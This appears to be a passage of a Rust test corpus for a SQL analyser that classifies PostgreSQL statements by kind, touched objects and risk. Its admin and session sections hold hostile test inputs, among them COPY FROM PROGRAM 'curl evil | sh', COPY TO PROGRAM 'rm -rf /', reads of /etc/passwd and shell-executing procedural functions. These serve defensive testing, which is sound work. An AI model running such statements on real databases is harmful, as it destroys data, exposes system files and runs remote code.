//! The analyser against a corpus of statements: each with its expected class and,
//! where it matters, the objects, functions, risks and prepared-statement effect.
//! Every class, every risk feature and the evasions of issue 3 are covered; a
//! failure lists every mismatching case at once.

use std::collections::BTreeSet;

use gatehouse_decider::{
    Analysis, ObjectRef, PreparedOp, Risk, Risk::*, StatementAnalysis, StatementClass,
    StatementClass::*, analyze,
};

/// What one statement of a case must come out as.
#[derive(Debug, Clone)]
struct Expect {
    /// The primary class.
    class: StatementClass,
    /// Every class, when the case says.
    classes: Option<Vec<StatementClass>>,
    reads: Option<Vec<&'static str>>,
    writes: Option<Vec<&'static str>>,
    functions: Option<Vec<&'static str>>,
    /// Always checked: unlisted risks must be absent.
    risks: Vec<Risk>,
    prepared: Option<Option<PreparedOp>>,
}

/// A corpus entry: the SQL text and what each of its statements must be
/// (`None`: the text must come back unparsed).
struct Case {
    sql: &'static str,
    expect: Option<Vec<Expect>>,
}

fn names(list: &str) -> Vec<&str> {
    list.split(',')
        .map(str::trim)
        .filter(|s| !s.is_empty())
        .collect()
}

impl Case {
    /// The last statement's expectation, which the builders below fill in.
    fn last(&mut self) -> &mut Expect {
        self.expect
            .as_mut()
            .and_then(|e| e.last_mut())
            .expect("a parsed case")
    }
    /// Objects read, as `schema.name` or `name`, comma-separated ("" for none).
    fn reads(mut self, list: &'static str) -> Self {
        self.last().reads = Some(names(list));
        self
    }
    fn writes(mut self, list: &'static str) -> Self {
        self.last().writes = Some(names(list));
        self
    }
    fn functions(mut self, list: &'static str) -> Self {
        self.last().functions = Some(names(list));
        self
    }
    fn risks(mut self, risks: &[Risk]) -> Self {
        self.last().risks = risks.to_vec();
        self
    }
    /// Every class the statement has (the primary one included).
    fn classes(mut self, classes: &[StatementClass]) -> Self {
        self.last().classes = Some(classes.to_vec());
        self
    }
    fn prepared(mut self, op: Option<PreparedOp>) -> Self {
        self.last().prepared = Some(op);
        self
    }
    /// The text holds another statement after the ones described so far.
    fn then(mut self, class: StatementClass) -> Self {
        self.expect
            .as_mut()
            .expect("a parsed case")
            .push(expect(class));
        self
    }
}

fn expect(class: StatementClass) -> Expect {
    Expect {
        class,
        classes: None,
        reads: None,
        writes: None,
        functions: None,
        risks: Vec::new(),
        prepared: None,
    }
}

/// A text of one statement of `class` (chain `.then` for more).
fn c(sql: &'static str, class: StatementClass) -> Case {
    Case {
        sql,
        expect: Some(vec![expect(class)]),
    }
}

/// A text that must parse into no statement at all.
fn empty(sql: &'static str) -> Case {
    Case {
        sql,
        expect: Some(Vec::new()),
    }
}

/// A text that must come back unparsed (blocked unless a rule allows it).
fn unparsed(sql: &'static str) -> Case {
    Case { sql, expect: None }
}

fn prepare(name: &str, inner_sql: &str) -> Option<PreparedOp> {
    Some(PreparedOp::Prepare {
        name: name.into(),
        inner_sql: inner_sql.into(),
    })
}

fn execute(name: &str) -> Option<PreparedOp> {
    Some(PreparedOp::Execute { name: name.into() })
}

fn deallocate(name: Option<&str>) -> Option<PreparedOp> {
    Some(PreparedOp::Deallocate {
        name: name.map(Into::into),
    })
}

#[rustfmt::skip]
fn corpus() -> Vec<Case> {
    vec![
        // ---- read -------------------------------------------------------------
        c("SELECT 1", Read).reads("").writes("").functions(""),
        c("select * from patients", Read).reads("patients").writes(""),
        c("sElEcT name FrOm PATIENTS", Read).reads("patients"),
        c("SELECT * FROM \"Patients\"", Read).reads("Patients"),
        c("SELECT * FROM \"CLINIC\".\"patients\"", Read).reads("CLINIC.patients"),
        c("SELECT * FROM Clinic.Patients", Read).reads("clinic.patients"),
        c("SELECT * FROM mydb.clinic.patients", Read).reads("clinic.patients"),
        c("SELECT a FROM t JOIN u ON t.id = u.id LEFT JOIN v USING (id) CROSS JOIN w", Read).reads("t, u, v, w"),
        c("SELECT * FROM (t1 JOIN t2 ON true) j NATURAL JOIN t3", Read).reads("t1, t2, t3"),
        c("SELECT * FROM t WHERE id IN (SELECT id FROM u) AND EXISTS (SELECT 1 FROM w)", Read).reads("t, u, w"),
        c("SELECT a FROM t UNION SELECT b FROM u EXCEPT (SELECT c FROM w INTERSECT SELECT d FROM x)", Read).reads("t, u, w, x"),
        c("SELECT * FROM t, LATERAL (SELECT * FROM u WHERE u.id = t.id) s", Read).reads("t, u"),
        c("SELECT (SELECT max(x) FROM u) FROM t", Read).reads("t, u").functions("max"),
        c("SELECT * FROM t ORDER BY (SELECT 1 FROM o)", Read).reads("t, o"),
        c("SELECT a FROM t GROUP BY a HAVING max(b) > (SELECT 1 FROM h)", Read).reads("t, h"),
        c("SELECT a FROM t WHERE b = (SELECT c FROM u WHERE d = (SELECT e FROM v))", Read).reads("t, u, v"),
        c("SELECT ARRAY(SELECT a FROM t)", Read).reads("t"),
        c("SELECT * FROM t WHERE a = ANY(SELECT b FROM u)", Read).reads("t, u"),
        c("SELECT f((SELECT secret FROM vault))", Read).reads("vault").functions("f"),
        c("WITH x AS (SELECT * FROM secret) SELECT * FROM x", Read).reads("secret"),
        c("WITH t AS (SELECT * FROM t) SELECT * FROM t", Read).reads("t"),
        c("WITH a AS (SELECT * FROM b), b AS (SELECT 1) SELECT * FROM a, b", Read).reads("b"),
        c("WITH x AS (SELECT 1) SELECT * FROM x, clinic.x", Read).reads("clinic.x"),
        c("WITH \"X\" AS (SELECT 1) SELECT * FROM x", Read).reads("x"),
        c("WITH RECURSIVE r(n) AS (SELECT 1 UNION ALL SELECT n + 1 FROM r WHERE n < 10) SELECT * FROM r", Read).reads(""),
        c("SELECT * FROM (WITH p AS (SELECT * FROM q) SELECT * FROM p) s, p", Read).reads("q, p"),
        c("VALUES (1, 'a'), (2, 'b')", Read).reads(""),
        c("SELECT * FROM (VALUES (1)) v(a)", Read).reads(""),
        c("SELECT * FROM generate_series(1, 10) g", Read).reads("").functions("generate_series"),
        c("SELECT * FROM t, LATERAL generate_series(1, t.n) g", Read).reads("t").functions("generate_series"),
        c("SELECT * FROM information_schema.tables", Read).reads("information_schema.tables"),
        c("SELECT usename, passwd FROM pg_catalog.pg_shadow", Read).reads("pg_catalog.pg_shadow"),
        c("SELECT current_setting('search_path'), now()", Read).functions("current_setting, now"),
        c("SELECT $1::int", Read),
        c("SELECT * FROM t FOR UPDATE OF t NOWAIT", Write).reads("t").writes("t"),
        c("SELECT DISTINCT ON (a) a FROM t ORDER BY a LIMIT 10 OFFSET 5", Read).reads("t"),
        c("SELECT count(*) FILTER (WHERE a > 1) OVER (PARTITION BY b) FROM t", Read).reads("t").functions("count"),
        c("SHOW search_path", Read),
        c("SHOW ALL", Read),
        c("TABLE patients", Read).reads("patients"),
        c("TABLE ONLY clinic.\"Patients\"", Read).reads("clinic.Patients"),
        c("EXPLAIN SELECT * FROM t", Read).reads("t"),
        c("EXPLAIN VERBOSE SELECT * FROM t", Read).reads("t"),
        // EXPLAIN without ANALYZE plans but does not run the write.
        c("EXPLAIN DELETE FROM t", Read).reads("t").writes("").risks(&[]),
        c("EXPLAIN (ANALYZE off) UPDATE t SET a = 1", Read).reads("t").writes(""),
        c("EXPLAIN (COSTS false) WITH d AS (DELETE FROM t RETURNING *) SELECT * FROM d", Read).reads("t"),
        // ---- write ------------------------------------------------------------
        c("INSERT INTO t (a) VALUES (1)", Write).writes("t").reads(""),
        c("INSERT INTO clinic.t SELECT * FROM u", Write).writes("clinic.t").reads("u"),
        c("INSERT INTO t DEFAULT VALUES", Write).writes("t"),
        c("INSERT INTO t (a) VALUES (1) ON CONFLICT (a) DO UPDATE SET a = excluded.a RETURNING (SELECT 1 FROM r)", Write).writes("t").reads("r"),
        c("INSERT INTO \"Audit\" VALUES (now())", Write).writes("Audit").functions("now"),
        c("UPDATE t SET a = 1 WHERE id = 2", Write).writes("t").reads("").risks(&[]),
        c("UPDATE t SET a = 1", Write).writes("t").risks(&[UpdateWithoutWhere]),
        c("UPDATE t SET a = 1 WHERE true", Write).risks(&[UpdateWithoutWhere]),
        c("UPDATE t SET a = 1 WHERE 1=1", Write).risks(&[UpdateWithoutWhere]),
        c("UPDATE t SET a = 1 WHERE 'a' = 'a'", Write).risks(&[UpdateWithoutWhere]),
        c("UPDATE t SET a = 1 WHERE x = x", Write).risks(&[UpdateWithoutWhere]),
        c("UPDATE t SET a = 1 WHERE NOT false", Write).risks(&[UpdateWithoutWhere]),
        c("UPDATE t SET a = 1 WHERE 1 < 2", Write).risks(&[UpdateWithoutWhere]),
        c("UPDATE t SET a = 1 WHERE id = 5 OR true", Write).risks(&[UpdateWithoutWhere]),
        c("UPDATE t SET a = 1 WHERE true AND true", Write).risks(&[UpdateWithoutWhere]),
        c("UPDATE t SET a = 1 WHERE id = 5 AND true", Write).risks(&[]),
        c("UPDATE t SET a = 1 FROM u WHERE t.id = u.id", Write).writes("t").reads("u"),
        c("UPDATE t SET a = (SELECT max(a) FROM t) WHERE id = 1", Write).writes("t").reads("t"),
        c("UPDATE t SET a = 1 FROM t AS t2 WHERE t.id = t2.id", Write).writes("t").reads("t"),
        c("DELETE FROM t WHERE id = 1", Write).writes("t").reads("").risks(&[]),
        c("DELETE FROM t", Write).writes("t").risks(&[DeleteWithoutWhere]),
        c("DELETE FROM t WHERE 't'", Write).risks(&[DeleteWithoutWhere]),
        c("DELETE FROM t WHERE 1::boolean", Write).risks(&[DeleteWithoutWhere]),
        c("DELETE FROM t WHERE a IS NULL OR a IS NOT NULL", Write).risks(&[DeleteWithoutWhere]),
        c("DELETE FROM t WHERE (1 = 1)", Write).risks(&[DeleteWithoutWhere]),
        c("DELETE FROM t WHERE id = $1", Write).risks(&[]),
        c("DELETE FROM t USING u WHERE t.id = u.id RETURNING t.*", Write).writes("t").reads("u"),
        c("DELETE FROM t USING u", Write).writes("t").reads("u").risks(&[DeleteWithoutWhere]),
        c("MERGE INTO t USING u ON t.id = u.id WHEN MATCHED THEN UPDATE SET a = u.a WHEN NOT MATCHED THEN INSERT VALUES (u.id)", Write).writes("t").reads("u"),
        c("MERGE INTO t USING (SELECT * FROM u) s ON t.id = s.id WHEN MATCHED THEN DELETE", Write).writes("t").reads("u"),
        c("MERGE INTO t USING (SELECT 1 AS id) s ON true WHEN MATCHED THEN DELETE", Write).writes("t").risks(&[DeleteWithoutWhere]),
        c("MERGE INTO t USING (SELECT 1 AS id) s ON 1 = 1 WHEN MATCHED THEN UPDATE SET a = 2", Write).risks(&[UpdateWithoutWhere]),
        c("MERGE INTO t USING u ON true WHEN MATCHED AND 1 = 1 THEN DELETE", Write).risks(&[DeleteWithoutWhere]),
        c("MERGE INTO t USING u ON true WHEN MATCHED AND u.gone THEN DELETE", Write).risks(&[]),
        c("WITH d AS (DELETE FROM t RETURNING *) SELECT * FROM d", Write).classes(&[Read, Write]).writes("t").reads("").risks(&[DataModifyingCte, DeleteWithoutWhere]),
        c("WITH d AS (UPDATE t SET a = 1 WHERE id = 1 RETURNING *) INSERT INTO log SELECT * FROM d", Write).classes(&[Write]).writes("t, log").reads("").risks(&[DataModifyingCte]),
        c("WITH d AS (INSERT INTO t VALUES (1) RETURNING id) SELECT * FROM d JOIN u ON u.id = d.id", Write).writes("t").reads("u").risks(&[DataModifyingCte]),
        c("SELECT * FROM (WITH d AS (DELETE FROM t WHERE id = 1 RETURNING *) SELECT * FROM d) s", Write).writes("t").risks(&[DataModifyingCte]),
        c("SELECT (WITH d AS (INSERT INTO t VALUES (1) RETURNING 1) SELECT * FROM d)", Write).writes("t").risks(&[DataModifyingCte]),
        c("SELECT 1 WHERE EXISTS (WITH d AS (UPDATE t SET a = 1 RETURNING 1) SELECT 1 FROM d)", Write).writes("t").risks(&[DataModifyingCte, UpdateWithoutWhere]),
        c("WITH x AS (SELECT 1) DELETE FROM t USING x WHERE t.id = 1", Write).writes("t").reads(""),
        // A CTE never hides a DML target: PostgreSQL resolves it to the table.
        c("WITH t AS (SELECT 1) DELETE FROM t WHERE id = 1", Write).writes("t"),
        c("EXPLAIN ANALYZE DELETE FROM t", Write).classes(&[Read, Write]).writes("t").risks(&[DeleteWithoutWhere]),
        c("EXPLAIN ANALYZE VERBOSE UPDATE t SET a = 1 WHERE id = 1", Write).writes("t"),
        c("EXPLAIN (ANALYZE, BUFFERS) INSERT INTO t VALUES (1)", Write).writes("t"),
        c("EXPLAIN (FORMAT JSON, ANALYZE true) DELETE FROM t WHERE id = 1", Write).writes("t"),
        c("EXPLAIN ANALYSE DELETE FROM t WHERE id = 1", Write).writes("t"),
        c("EXPLAIN ANALYZE WITH d AS (DELETE FROM t WHERE id = 1 RETURNING 1) SELECT * FROM d", Write).writes("t").risks(&[DataModifyingCte]),
        // PostgreSQL logs CREATE TABLE AS and SELECT INTO as DDL.
        c("CREATE TABLE x AS SELECT * FROM patients", Ddl).classes(&[Ddl, Read]).writes("x").reads("patients"),
        c("CREATE TEMP TABLE x ON COMMIT DROP AS SELECT 1", Ddl).classes(&[Ddl]).writes("x"),
        c("CREATE UNLOGGED TABLE clinic.dump AS SELECT * FROM clinic.patients WHERE id > 0", Ddl).classes(&[Ddl, Read]).writes("clinic.dump").reads("clinic.patients"),
        c("EXPLAIN ANALYZE CREATE TABLE x AS SELECT 1", Ddl).classes(&[Ddl, Read]).writes("x"),
        c("SELECT * INTO newt FROM patients", Ddl).classes(&[Ddl, Read]).writes("newt").reads("patients"),
        c("SELECT name INTO TEMP clinic.copy FROM patients", Ddl).classes(&[Ddl, Read]).writes("clinic.copy").reads("patients"),
        c("PREPARE q AS DELETE FROM t WHERE id = 1", Write).classes(&[Write, Prepared]).writes("t"),
        // Row locks are written into the rows, and need UPDATE privilege.
        c("SELECT * FROM jobs WHERE id = 1 FOR UPDATE SKIP LOCKED", Write).classes(&[Write, Read]).reads("jobs").writes("jobs"),
        c("SELECT * FROM (SELECT * FROM a FOR SHARE) s JOIN b ON true", Write).classes(&[Write, Read]).reads("a, b").writes("a, b"),
        c("UPDATE pg_settings SET setting = 'evil' WHERE name = 'search_path'", Write).writes("pg_settings").risks(&[SearchPathChange, ClientEncodingChange, RoleChange]),
        // ---- ddl --------------------------------------------------------------
        c("CREATE TABLE t (a int)", Ddl).writes("t"),
        c("CREATE TABLE IF NOT EXISTS clinic.\"Notes\" (id serial PRIMARY KEY, body text)", Ddl).writes("clinic.Notes"),
        c("CREATE TABLE t2 (LIKE t)", Ddl).writes("t2").reads("t"),
        c("CREATE INDEX CONCURRENTLY i ON t USING btree (lower(a)) WHERE a IS NOT NULL", Ddl).writes("t"),
        c("CREATE VIEW v AS SELECT * FROM patients", Ddl).writes("v").reads("patients"),
        c("CREATE OR REPLACE VIEW clinic.v AS SELECT * FROM clinic.patients", Ddl).writes("clinic.v").reads("clinic.patients"),
        c("CREATE MATERIALIZED VIEW mv AS SELECT * FROM t", Ddl).classes(&[Ddl, Read]).writes("mv").reads("t"),
        c("CREATE SCHEMA s", Ddl).writes("s.*"),
        c("CREATE SCHEMA s AUTHORIZATION bob", Ddl).writes("s.*"),
        c("CREATE SEQUENCE s START 1", Ddl).writes("s"),
        c("CREATE TYPE mood AS ENUM ('a', 'b')", Ddl).writes("mood"),
        c("CREATE DOMAIN d AS int CHECK (VALUE > 0)", Ddl).writes("d"),
        c("CREATE OR REPLACE FUNCTION f() RETURNS int LANGUAGE sql AS $$ select 1 $$", Ddl).writes("f"),
        c("CREATE FUNCTION clinic.f() RETURNS int LANGUAGE sql SECURITY DEFINER AS 'select 1'", Ddl).writes("clinic.f").risks(&[PrivilegeChange]),
        c("CREATE FUNCTION sh(text) RETURNS text LANGUAGE plperlu AS $$ `$_[0]` $$", Admin).writes("sh"),
        c("CREATE TRIGGER tr BEFORE INSERT ON t FOR EACH ROW EXECUTE FUNCTION f()", Ddl).writes("t"),
        c("CREATE EXTENSION IF NOT EXISTS pgcrypto", Ddl),
        c("CREATE POLICY p ON t USING (true)", Ddl).writes("t").risks(&[PrivilegeChange]),
        c("ALTER TABLE t ADD COLUMN b int", Ddl).writes("t"),
        c("ALTER TABLE t ALTER COLUMN a TYPE bigint", Ddl).writes("t").risks(&[AlterType]),
        c("ALTER TABLE t ALTER a SET DATA TYPE text USING a::text", Ddl).risks(&[AlterType]),
        c("ALTER TABLE IF EXISTS ONLY t ADD COLUMN c int, ALTER COLUMN a TYPE int", Ddl).risks(&[AlterType]),
        c("ALTER TABLE clinic.t OWNER TO bob", Ddl).writes("clinic.t").risks(&[PrivilegeChange]),
        c("ALTER TABLE t DISABLE ROW LEVEL SECURITY", Ddl).risks(&[PrivilegeChange]),
        c("ALTER TABLE t DROP COLUMN b CASCADE", Ddl).risks(&[Drop, DropCascade]),
        c("ALTER TABLE t RENAME TO u", Ddl).writes("t, u"),
        c("ALTER SCHEMA s OWNER TO bob", Ddl).writes("s.*").risks(&[PrivilegeChange]),
        c("ALTER INDEX i RENAME TO j", Ddl).writes("i"),
        c("DROP TABLE t", Ddl).writes("t").risks(&[Drop]),
        c("DROP TABLE IF EXISTS a, clinic.b CASCADE", Ddl).writes("a, clinic.b").risks(&[Drop, DropCascade]),
        c("DROP SCHEMA clinic CASCADE", Ddl).writes("clinic.*").risks(&[Drop, DropCascade]),
        c("DROP VIEW v", Ddl).writes("v").risks(&[Drop]),
        c("DROP MATERIALIZED VIEW mv", Ddl).writes("mv").risks(&[Drop]),
        c("DROP INDEX i", Ddl).writes("i").risks(&[Drop]),
        c("DROP FUNCTION f(int)", Ddl).writes("f").risks(&[Drop]),
        c("DROP SEQUENCE s", Ddl).writes("s").risks(&[Drop]),
        c("DROP EXTENSION e CASCADE", Ddl).risks(&[Drop, DropCascade]),
        c("DROP TRIGGER tr ON t", Ddl).writes("t").risks(&[Drop]),
        c("DROP DATABASE d", Ddl).risks(&[Drop]),
        c("TRUNCATE t", Ddl).writes("t").risks(&[Truncate]),
        c("TRUNCATE TABLE ONLY a, clinic.b RESTART IDENTITY CASCADE", Ddl).writes("a, clinic.b").risks(&[Truncate]),
        c("TRUNCATE \"Patients\"", Ddl).writes("Patients").risks(&[Truncate]),
        c("COMMENT ON TABLE t IS 'x'", Ddl).writes("t"),
        c("COMMENT ON COLUMN clinic.t.c IS 'x'", Ddl).writes("clinic.t"),
        // ---- dcl --------------------------------------------------------------
        c("GRANT SELECT ON t TO bob", Dcl).writes("t").risks(&[PrivilegeChange]),
        c("GRANT SELECT (a, b) ON clinic.patients TO bob WITH GRANT OPTION", Dcl).writes("clinic.patients").risks(&[PrivilegeChange]),
        c("GRANT ALL ON ALL TABLES IN SCHEMA clinic TO bob", Dcl).writes("clinic.*").risks(&[PrivilegeChange]),
        c("GRANT USAGE ON SCHEMA s TO bob", Dcl).writes("s.*").risks(&[PrivilegeChange]),
        c("REVOKE ALL ON t FROM PUBLIC", Dcl).writes("t").risks(&[PrivilegeChange]),
        c("GRANT admin TO bob", Dcl).risks(&[PrivilegeChange, RoleChange]),
        c("REVOKE admin FROM bob", Dcl).risks(&[PrivilegeChange, RoleChange]),
        c("CREATE ROLE bob LOGIN PASSWORD 'x'", Dcl).risks(&[RoleChange]),
        c("CREATE USER bob", Dcl).risks(&[RoleChange]),
        c("CREATE USER bob WITH SUPERUSER", Dcl).risks(&[RoleChange]),
        c("CREATE GROUP auditors", Dcl).risks(&[RoleChange]),
        c("ALTER ROLE bob SUPERUSER", Dcl).risks(&[RoleChange]),
        c("ALTER USER bob WITH PASSWORD 'x'", Dcl).risks(&[RoleChange]),
        c("ALTER ROLE bob SET search_path = evil", Dcl).risks(&[RoleChange, SearchPathChange]),
        c("DROP ROLE bob", Dcl).risks(&[RoleChange, Drop]),
        c("DROP USER IF EXISTS bob", Dcl).risks(&[RoleChange, Drop]),
        c("DROP GROUP auditors", Dcl).risks(&[RoleChange, Drop]),
        c("ALTER DEFAULT PRIVILEGES IN SCHEMA s GRANT SELECT ON TABLES TO bob", Dcl).writes("s.*").risks(&[PrivilegeChange]),
        c("REASSIGN OWNED BY bob TO alice", Dcl).risks(&[RoleChange, PrivilegeChange]),
        c("DROP OWNED BY bob CASCADE", Dcl).risks(&[Drop, DropCascade, PrivilegeChange]),
        // ---- session ----------------------------------------------------------
        c("SET statement_timeout = 0", Session).risks(&[]),
        c("SET TIME ZONE 'UTC'", Session),
        c("SET search_path TO evil, public", Session).risks(&[SearchPathChange]),
        c("SET LOCAL search_path = evil", Session).risks(&[SearchPathChange]),
        c("set SEARCH_PATH = evil", Session).risks(&[SearchPathChange]),
        c("SET \"search_path\" = evil", Session).risks(&[SearchPathChange]),
        c("SET SCHEMA 'evil'", Session).risks(&[SearchPathChange]),
        c("SET client_encoding TO 'SJIS'", Session).risks(&[ClientEncodingChange]),
        c("SET NAMES 'SJIS'", Session).risks(&[ClientEncodingChange]),
        c("SET standard_conforming_strings = off", Session).risks(&[ClientEncodingChange]),
        c("SET ROLE admin", Session).risks(&[RoleChange]),
        c("SET LOCAL ROLE admin", Session).risks(&[RoleChange]),
        c("SET ROLE NONE", Session).risks(&[RoleChange]),
        c("SET role = 'admin'", Session).risks(&[RoleChange]),
        c("RESET ROLE", Session).risks(&[RoleChange]),
        c("SET ROLE TO admin", Session).risks(&[RoleChange]),
        c("set local role = admin", Session).risks(&[RoleChange]),
        c("SET CONSTRAINTS ALL DEFERRED", Transaction),
        c("SET CONSTRAINTS s.uk, fk IMMEDIATE", Transaction),
        c("SET SESSION AUTHORIZATION 'bob'", Session).risks(&[RoleChange]),
        c("SET SESSION AUTHORIZATION DEFAULT", Session).risks(&[RoleChange]),
        c("RESET SESSION AUTHORIZATION", Session).risks(&[RoleChange]),
        c("RESET search_path", Session).risks(&[SearchPathChange]),
        c("RESET ALL", Session).risks(&[SearchPathChange, ClientEncodingChange]),
        c("DISCARD ALL", Session).risks(&[RoleChange, SearchPathChange, ClientEncodingChange]).prepared(deallocate(None)),
        c("DISCARD PLANS", Session).prepared(None),
        c("SET SESSION CHARACTERISTICS AS TRANSACTION READ ONLY", Session),
        // ---- transaction ------------------------------------------------------
        c("BEGIN", Transaction),
        c("BEGIN ISOLATION LEVEL SERIALIZABLE", Transaction),
        c("START TRANSACTION READ ONLY", Transaction),
        c("COMMIT", Transaction),
        c("END", Transaction),
        c("ABORT", Transaction),
        c("ROLLBACK", Transaction),
        c("SAVEPOINT s1", Transaction),
        c("RELEASE SAVEPOINT s1", Transaction),
        c("ROLLBACK TO SAVEPOINT s1", Transaction),
        c("SET TRANSACTION ISOLATION LEVEL SERIALIZABLE", Transaction),
        c("PREPARE TRANSACTION 'tx1'", Transaction),
        c("COMMIT PREPARED 'tx1'", Transaction),
        c("ROLLBACK PREPARED 'tx1'", Transaction),
        // ---- procedural -------------------------------------------------------
        c("DO $$ BEGIN DELETE FROM patients; END $$", Procedural),
        c("DO LANGUAGE plpgsql 'begin null; end'", Procedural),
        c("do $body$ begin perform 1; end $body$ language plpgsql", Procedural),
        // An untrusted language reaches the server's files and processes.
        c("DO LANGUAGE plpython3u $$ import os; os.system('id') $$", Admin),
        c("CALL myproc(1, 'a')", Procedural).functions("myproc"),
        c("CALL clinic.archive_old()", Procedural).functions("clinic.archive_old"),
        c("CALL pg_catalog.pg_reload_conf()", Admin).functions("pg_catalog.pg_reload_conf").risks(&[SideEffectFunction]),
        // ---- prepared ---------------------------------------------------------
        c("PREPARE p (int) AS SELECT * FROM t WHERE id = $1", Prepared).reads("t").prepared(prepare("p", "SELECT * FROM t WHERE id = $1")),
        c("PREPARE p AS DELETE FROM patients", Write).writes("patients").risks(&[DeleteWithoutWhere]).prepared(prepare("p", "DELETE FROM patients")),
        c("PREPARE \"MyStmt\" AS SELECT 1", Prepared).prepared(prepare("MyStmt", "SELECT 1")),
        c("PREPARE q AS SELECT pg_read_file('/etc/passwd')", Admin).functions("pg_read_file").risks(&[SideEffectFunction]).prepared(prepare("q", "SELECT pg_read_file('/etc/passwd')")),
        c("PREPARE w AS WITH d AS (DELETE FROM t WHERE id = $1 RETURNING *) SELECT * FROM d", Write).writes("t").risks(&[DataModifyingCte]),
        c("EXECUTE p(1)", Prepared).prepared(execute("p")),
        c("EXECUTE P", Prepared).prepared(execute("p")),
        c("EXECUTE p(pg_read_file('x'))", Admin).prepared(execute("p")).risks(&[SideEffectFunction]),
        c("EXPLAIN ANALYZE EXECUTE p", Prepared).prepared(execute("p")),
        c("DEALLOCATE p", Prepared).prepared(deallocate(Some("p"))),
        c("DEALLOCATE PREPARE ALL", Prepared).prepared(deallocate(None)),
        c("DEALLOCATE ALL", Prepared).prepared(deallocate(None)),
        c("PREPARE x AS DELETE FROM patients WHERE id = $1; EXECUTE x(1)", Write).writes("patients").prepared(prepare("x", "DELETE FROM patients WHERE id = $1"))
            .then(Prepared).prepared(execute("x")),
        // ---- cursor -----------------------------------------------------------
        c("DECLARE c CURSOR FOR SELECT * FROM t", Cursor).reads("t"),
        c("DECLARE c BINARY INSENSITIVE NO SCROLL CURSOR WITH HOLD FOR SELECT * FROM clinic.patients", Cursor).reads("clinic.patients"),
        c("DECLARE c CURSOR FOR SELECT pg_sleep(1)", Cursor).risks(&[SideEffectFunction]),
        c("DECLARE c CURSOR FOR SELECT * FROM t WHERE x IN (SELECT pg_read_file('x'))", Admin).reads("t").risks(&[SideEffectFunction]),
        c("DECLARE c CURSOR FOR WITH d AS (DELETE FROM t RETURNING *) SELECT * FROM d", Write).writes("t").risks(&[DataModifyingCte, DeleteWithoutWhere]),
        c("FETCH 10 FROM c", Cursor),
        c("FETCH ALL IN c", Cursor),
        c("MOVE NEXT FROM c", Cursor),
        c("MOVE FORWARD 5 IN c", Cursor),
        c("CLOSE c", Cursor),
        c("CLOSE ALL", Cursor),
        // ---- copy -------------------------------------------------------------
        c("COPY t TO STDOUT", CopyOut).reads("t").writes(""),
        c("COPY clinic.\"Patients\" (a, b) TO STDOUT WITH (FORMAT csv)", CopyOut).reads("clinic.Patients"),
        c("COPY (SELECT * FROM patients) TO STDOUT", CopyOut).reads("patients"),
        c("COPY (SELECT name, pg_sleep(0) FROM patients) TO STDOUT", CopyOut).reads("patients").risks(&[SideEffectFunction]),
        c("COPY (DELETE FROM t RETURNING *) TO STDOUT", Write).writes("t").risks(&[DeleteWithoutWhere]),
        c("COPY (WITH d AS (DELETE FROM t WHERE id = 1 RETURNING *) SELECT * FROM d) TO STDOUT", Write).writes("t").risks(&[DataModifyingCte]),
        c("COPY t FROM STDIN", CopyIn).writes("t").reads(""),
        c("COPY t (a) FROM STDIN WITH (FORMAT binary)", CopyIn).writes("t"),
        // ---- admin ------------------------------------------------------------
        c("COPY t FROM '/etc/passwd'", Admin).writes("t"),
        c("COPY t TO '/tmp/x'", Admin).reads("t"),
        c("COPY t FROM PROGRAM 'curl evil | sh'", Admin).writes("t"),
        c("COPY (SELECT 1) TO PROGRAM 'rm -rf /'", Admin),
        c("ALTER SYSTEM SET work_mem = '1GB'", Admin),
        c("ALTER SYSTEM SET search_path = evil", Admin).risks(&[SearchPathChange]),
        c("ALTER SYSTEM RESET ALL", Admin),
        c("LOAD 'auto_explain'", Admin),
        c("CHECKPOINT", Admin),
        c("SELECT pg_read_file('/etc/passwd')", Admin).functions("pg_read_file").risks(&[SideEffectFunction]),
        c("SELECT * FROM pg_ls_dir('.') AS x", Admin).functions("pg_ls_dir").reads("").risks(&[SideEffectFunction]),
        c("SELECT PG_CATALOG.PG_READ_FILE('/etc/passwd')", Admin).functions("pg_catalog.pg_read_file").risks(&[SideEffectFunction]),
        c("SELECT \"pg_catalog\".\"pg_read_file\"('x')", Admin).functions("pg_catalog.pg_read_file").risks(&[SideEffectFunction]),
        c("SELECT lo_import('/etc/passwd')", Admin).functions("lo_import").risks(&[SideEffectFunction]),
        c("SELECT lo_export(16385, '/tmp/x')", Admin).risks(&[SideEffectFunction]),
        c("SELECT pg_terminate_backend(123)", Admin).risks(&[SideEffectFunction]),
        c("SELECT pg_cancel_backend(pid) FROM pg_stat_activity WHERE usename = 'x'", Admin).reads("pg_stat_activity").risks(&[SideEffectFunction]),
        c("SELECT pg_reload_conf()", Admin).risks(&[SideEffectFunction]),
        c("SELECT * FROM dblink('host=x', 'select 1') AS t(a int)", Admin).functions("dblink").reads("").risks(&[SideEffectFunction]),
        c("SELECT ext.dblink_exec('host=x', 'drop table t')", Admin).functions("ext.dblink_exec").risks(&[SideEffectFunction]),
        c("SELECT * FROM pg_logical_slot_get_changes('s', NULL, NULL)", Admin).risks(&[SideEffectFunction]),
        c("SELECT cron.schedule('* * * * *', 'DELETE FROM t')", Admin).functions("cron.schedule").risks(&[SideEffectFunction]),
        c("SELECT count(*) FROM (SELECT pg_ls_dir('.')) s", Admin).functions("count, pg_ls_dir").risks(&[SideEffectFunction]),
        c("SELECT 1 FROM t ORDER BY pg_read_file('x')", Admin).reads("t").risks(&[SideEffectFunction]),
        c("SELECT 1 FROM t WHERE length(pg_read_file('x')) > 0", Admin).functions("length, pg_read_file").risks(&[SideEffectFunction]),
        c("INSERT INTO t VALUES ((SELECT pg_read_file('x')))", Admin).writes("t").risks(&[SideEffectFunction]),
        c("VALUES (pg_catalog.pg_ls_dir('/'))", Admin).risks(&[SideEffectFunction]),
        c("CREATE TABLE t (a text DEFAULT pg_read_file('x'))", Admin).writes("t").risks(&[SideEffectFunction]),
        c("CREATE VIEW v AS SELECT pg_read_file('x')", Admin).writes("v").risks(&[SideEffectFunction]),
        c("EXPLAIN SELECT pg_read_file('x')", Admin).risks(&[SideEffectFunction]),
        c("SELECT query_to_xml(q, true, false, '') FROM queries", Admin).reads("queries"),
        c("SELECT query_to_xml('select pg_read_file(''x'')', true, false, '')", Admin).functions("query_to_xml, pg_read_file").risks(&[SideEffectFunction]),
        c("SELECT database_to_xml(true, false, '')", Admin).risks(&[SideEffectFunction]),
        // ---- utility ----------------------------------------------------------
        c("LISTEN ch", Utility),
        c("NOTIFY ch, 'hi'", Utility),
        c("UNLISTEN *", Utility),
        c("VACUUM t", Utility).writes("t"),
